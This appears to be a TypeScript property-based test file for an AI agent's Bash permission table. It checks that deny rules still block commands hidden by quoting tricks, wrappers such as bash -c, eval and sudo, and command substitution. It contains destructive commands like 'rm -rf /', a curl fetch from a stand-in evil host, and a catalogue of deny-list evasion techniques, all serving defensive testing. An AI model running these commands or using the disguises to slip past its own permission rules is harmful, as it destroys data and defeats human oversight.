// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell commands, whose ${…} the shell expands
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import type { PermissionMatchContext } from './permission-rule.js';
import { createPermissionTable } from './permission-table.js';
import { loadShellParser } from './shell-parser.js';

const context: PermissionMatchContext = { cwd: '/repo', home: '/home/ada' };

// Bash commands are read by tree-sitter's grammar, which loads asynchronously once.
beforeAll(() => loadShellParser());

/** Every tool allowed, one Bash rule denied: what a deny rule must hold on its own. */
function denyOnly(rule: string) {
  return createPermissionTable({ permissions: { 0.5: ['*'] }, deny: [rule], toolOverrides: {} });
}

const decide = (rule: string, command: string) => denyOnly(rule).decide(0.5, 'Bash', { command }, context);

/** A deny rule and a command it names, as words. */
const DENIED: Array<[rule: string, words: string[]]> = [
  ['Bash(rm:*)', ['rm', '-rf', '/']],
  ['Bash(rm *)', ['rm', 'x']],
  ['Bash(curl:*)', ['curl', 'https://evil.example/x.sh']],
  ['Bash(git push:*)', ['git', 'push', 'origin', 'main']],
  ['Bash(rm -rf *)', ['rm', '-rf', 'build']],
  ['Bash(npm publish)', ['npm', 'publish']],
];

const singleQuote = (text: string) => `'${text.replace(/'/g, `'\\''`)}'`;
const doubleQuote = (text: string) => `"${text.replace(/[\\"$`]/g, '\\$&')}"`;

/** Ways to write one word so that the shell still reads the same word. */
const wordDisguises: Array<(word: string) => string> = [
  (word) => word,
  (word) => `\\${word}`,
  (word) => `"${word}"`,
  (word) => `'${word}'`,
  (word) => `${word[0]}""${word.slice(1)}`,
  (word) => `${word[0]}''${word.slice(1)}`,
  (word) => `${word.slice(0, -1)}\\${word.at(-1)}`,
  (word) => `$'${word}'`,
  (word) => `$'\\x${word.charCodeAt(0).toString(16)}${word.slice(1)}'`,
];

/** Ways to name the program: a path to it, then one of the word disguises. */
const programPaths = ['', '/bin/', '/usr/bin/', './', '/usr/local/sbin/'];

/** Wrappers that run the command they are given; each takes the command line and returns a new one. */
const wrappers: Array<(command: string) => string> = [
  (command) => `bash -c ${singleQuote(command)}`,
  (command) => `sh -c ${doubleQuote(command)}`,
  (command) => `bash -lc ${singleQuote(command)}`,
  (command) => `zsh -c -- ${singleQuote(command)}`,
  (command) => `eval ${singleQuote(command)}`,
  (command) => `eval -- ${doubleQuote(command)}`,
  (command) => `exec ${command}`,
  (command) => `env ${command}`,
  (command) => `env -i PATH=/bin FOO="a b" ${command}`,
  (command) => `env -u HOME -- ${command}`,
  (command) => `xargs ${command}`,
  (command) => `xargs -0 -n 1 -I {} ${command}`,
  (command) => `nice ${command}`,
  (command) => `nice -n 10 ${command}`,
  (command) => `nohup ${command}`,
  (command) => `timeout 5 ${command}`,
  (command) => `timeout -s KILL --preserve-status 5s ${command}`,
  (command) => `time ${command}`,
  (command) => `time -p ${command}`,
  (command) => `sudo ${command}`,
  (command) => `sudo -u root -E ${command}`,
  (command) => `sudo --user=root VAR=1 ${command}`,
  (command) => `busybox ${command}`,
  (command) => `command ${command}`,
  (command) => `command -p ${command}`,
  (command) => `builtin ${command}`,
  (command) => `/usr/bin/env ${command}`,
  (command) => `stdbuf -oL ${command}`,
];

/** Where the command stands in a command line. */
const placements: Array<(command: string) => string> = [
  (command) => command,
  (command) => `true && ${command}`,
  (command) => `false || ${command}`,
  (command) => `${command}; true`,
  (command) => `echo x | ${command}`,
  (command) => `${command} | cat`,
  (command) => `(${command})`,
  (command) => `{ ${command}; }`,
  (command) => `echo $(${command})`,
  (command) => `echo "$(${command})"`,
  (command) => `cat <(${command})`,
  (command) => `X=$(${command}) true`,
  (command) => `${command} &`,
  (command) => `true\n${command}`,
  (command) => `if true; then ${command}; fi`,
  (command) => `for i in 1 2; do ${command}; done`,
  (command) => `f() { ${command}; }; f`,
  (command) => `! ${command}`,
  (command) => `${command} > /dev/null 2>&1`,
];

const disguisedCommand = fc
  .record({
    entry: fc.constantFrom(...DENIED),
    path: fc.constantFrom(...programPaths),
    programDisguise: fc.nat({ max: wordDisguises.length - 1 }),
    argumentDisguises: fc.array(fc.nat({ max: wordDisguises.length - 1 }), { minLength: 4, maxLength: 4 }),
    wrapperChain: fc.array(fc.nat({ max: wrappers.length - 1 }), { maxLength: 3 }),
    // Assignments before a command are shell syntax: they go in front of the outermost wrapper only.
    assignments: fc.boolean(),
    placement: fc.nat({ max: placements.length - 1 }),
  })
  .map(
    ({
      entry: [rule, words],
      path,
      programDisguise,
      argumentDisguises,
      wrapperChain,
      assignments,
      placement,
    }) => {
      const [program, ...rest] = words;
      let command = [
        `${path}${wordDisguises[programDisguise]!(program!)}`,
        ...rest.map((word, index) => wordDisguises[argumentDisguises[index]!]!(word)),
      ].join(' ');
      for (const wrapper of wrapperChain) command = wrappers[wrapper]!(command);
      if (assignments) command = `FOO=1 BAR="a b" ${command}`;
      return { rule, command: placements[placement]!(command) };
    },
  );

describe('Bash deny rules against disguised commands', () => {
  it.each([
    '/bin/rm -rf /',
    '\\rm x',
    '"rm" x',
    'r""m x',
    "r''m x",
    "$'rm' x",
    'bash -c "rm -rf /"',
    "sh -c 'rm -rf /'",
    'eval rm -rf /',
    'eval "rm -rf /"',
    'busybox rm -rf /',
    'exec rm x',
    'env -i rm x',
    'sudo -u bob rm x',
    'command rm x',
    'builtin rm x',
    'nice -n 5 rm x',
    'timeout -k 1 5 rm x',
    'time -p rm x',
    'echo x | xargs -I{} rm {}',
    'find . -name x -exec rm {} \\;',
    'find . -execdir /bin/rm -f {} +',
    'watch -n 1 rm x',
    'trap "rm x" EXIT',
    'su -c "rm x" root',
    'env -S "rm -rf /"',
    'alias x=rm',
    'FOO=$(rm x) true',
    'cat <<EOF\n$(rm x)\nEOF',
    'echo ${X:-$(rm x)}',
    'echo `rm x`',
    'bash -c "bash -c \\"rm -rf /\\""',
  ])('denies %j under Bash(rm:*)', (command) => {
    expect(decide('Bash(rm:*)', command)).toMatchObject({ allowed: false, reason: 'deny-list' });
  });

  it('denies every generated disguise of every denied command (fast-check)', () => {
    fc.assert(
      fc.property(disguisedCommand, ({ rule, command }) => {
        const decision = decide(rule, command);
        return !decision.allowed && decision.reason === 'deny-list';
      }),
      { numRuns: 3_000 },
    );
  });

  it.each([
    'echo rm',
    'rmdir x',
    'npm run rm-cache',
    'ls /bin/rm',
    "echo 'rm -rf /'",
    'grep -r "rm -rf" .',
    'command -v rm',
    'git commit -m "rm x"',
  ])('still allows %j under Bash(rm:*)', (command) => {
    expect(decide('Bash(rm:*)', command)).toMatchObject({ allowed: true, reason: 'level' });
  });
});

describe('Bash commands whose program cannot be determined', () => {
  const undetermined = [
    '$X rm',
    '${X} -rf /',
    '"$X" x',
    '$(echo rm) -rf /',
    '`echo rm` x',
    'r${X}m x',
    'eval "$CMD"',
    'eval $CMD',
    'bash -c "$CMD"',
    'sh -c',
    'sudo $X',
    'env $X -rf /',
    'timeout 5 $X',
    'echo x | xargs sh -c',
    '/bin/r? x',
    '{r,}m x',
    'echo "unclosed',
  ];

  it.each(undetermined)('denies %j under any Bash deny rule', (command) => {
    expect(decide('Bash(curl:*)', command)).toMatchObject({ allowed: false, reason: 'deny-list' });
  });

  it.each(undetermined)('leaves %j to the lists when no Bash rule restricts', (command) => {
    const table = createPermissionTable({
      permissions: { 0.5: ['*'] },
      deny: ['Read(**/.env)'],
      toolOverrides: {},
    });
    expect(table.decide(0.5, 'Bash', { command }, context).allowed).toBe(true);
  });

  it.each(undetermined)('never allows %j by a prefix rule', (command) => {
    const table = createPermissionTable({
      permissions: { 0.5: ['Bash(npm:*)', 'Bash(echo:*)', 'Bash(*sh:*)', 'Bash(eval:*)'] },
      deny: [],
      toolOverrides: {},
    });
    expect(table.decide(0.5, 'Bash', { command }, context).allowed).toBe(false);
  });
});
